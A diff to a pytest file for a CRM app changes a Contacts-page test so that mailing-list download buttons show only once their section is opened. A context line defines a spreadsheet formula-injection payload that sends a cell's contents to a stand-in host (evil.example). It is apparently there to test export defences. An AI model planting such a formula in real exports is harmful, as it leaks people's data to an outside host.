@@ -13,7 +13,7 @@ import pytest
 from crm import branches, contacts, db, exports, organisations, privacy, users
 from crm.access import COMMAND_LINE
 from tests.conftest import PASSWORD, World, copy_world
-from tests.pagehelpers import open_page, run_app_on
+from tests.pagehelpers import open_page, open_section, run_app_on
 
 REPO = Path(__file__).resolve().parents[1]
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
@@ -470,9 +470,11 @@ def app_env(monkeypatch, db_path):
 @pytest.mark.parametrize(("username", "count"), [("manager.leeds", 3), ("lead.north", 5), ("ada", 6)])
 def test_contacts_page_offers_the_mailing_list_of_the_users_scope(app_env, world, username, count):
     """Test that the Contacts page offers the mailing list as CSV and vCard downloads, counting only the mailable
-    people in the user's scope."""
+    people in the user's scope, once its section is opened (closed, nothing in it is drawn or counted)."""
     at = open_page(username, "contacts")
+    assert [b.key for b in at.get("download_button") if b.key.startswith("contacts_mailing_")] == []
 
+    open_section(at, "Partner mailing list")
     assert {b.key: b.label for b in at.get("download_button")} == {
         "contacts_mailing_csv": f"CSV ({count} people)",
         "contacts_mailing_vcf": "vCard",
